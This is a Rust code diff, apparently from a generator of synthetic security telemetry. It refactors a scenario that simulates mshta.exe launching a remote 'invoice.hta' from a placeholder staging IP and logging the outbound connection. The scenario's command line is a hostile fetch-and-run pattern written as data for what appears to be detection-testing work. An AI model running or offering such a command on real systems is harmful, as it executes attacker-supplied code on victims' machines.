@@ -3,9 +3,9 @@
 
 use serde_json::{Map, Value};
 
-use super::{Env, Kind, Scenario, process_record};
+use super::{Env, Kind, Scenario, outbound, process_record};
 use crate::synth::content as c;
-use crate::synth::device::{Conn, Ctx, SECOND, Spawn};
+use crate::synth::device::{Ctx, SECOND, Spawn};
 use crate::synth::rng::Rng;
 use crate::synth::world as w;
 
@@ -28,15 +28,7 @@ impl Scenario for MshtaRemote {
     fn run(&self, ctx: &mut Ctx<'_>, env: &Env<'_>, at: i64, rng: &mut Rng) -> Map<String, Value> {
         let line = format!("\"C:\\Windows\\system32\\mshta.exe\" http://{}/invoice.hta", c::STAGING_IP);
         let mshta = ctx.spawn(at, Spawn::new(&w::MSHTA, line).parent(&env.session.explorer).lifetime(20 * SECOND));
-        let conn = Conn {
-            action: "ConnectionSuccess",
-            remote_ip: c::STAGING_IP,
-            remote_port: 80,
-            remote_url: "",
-            local_ip: "",
-            local_port: rng.range(49_152, 65_535) as i32,
-            protocol: "Tcp",
-        };
+        let conn = outbound(c::STAGING_IP, 80, rng);
         ctx.connect(&mshta, at + SECOND, &conn);
         process_record(&mshta, &env.session.explorer)
     }
